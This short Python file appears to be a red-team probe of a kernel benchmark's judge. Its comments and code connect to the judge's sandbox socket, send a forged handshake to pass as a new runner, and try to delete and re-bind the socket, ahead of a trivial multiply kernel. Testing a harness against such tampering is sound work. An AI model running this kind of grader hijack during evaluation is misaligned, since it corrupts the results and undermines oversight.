# Strategy: connects to the judge a second time and greets it as a new runner would, to be believed as one.
# Surface: the judge's listening socket, which is bound into the sandbox.
import os
import socket

import torch

ADDRESS = "/run/kernelmark.sock"
found = []
for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM, socket.SOCK_DGRAM):
    second = socket.socket(socket.AF_UNIX, kind)
    try:
        second.connect(ADDRESS)
        second.send(b'{"token":0,"kind":"Hello","protocol":2,"python":"3"}')
        found.append("connected")
    except OSError as error:
        found.append(type(error).__name__)
for act in (os.unlink, lambda path: socket.socket(socket.AF_UNIX).bind(path)):
    try:
        act(ADDRESS)
        found.append("replaced")
    except OSError:
        found.append("kept")
print(f"attack: {', '.join(found)}", flush=True)


def twice(x, y):
    torch.mul(x, 2, out=y)
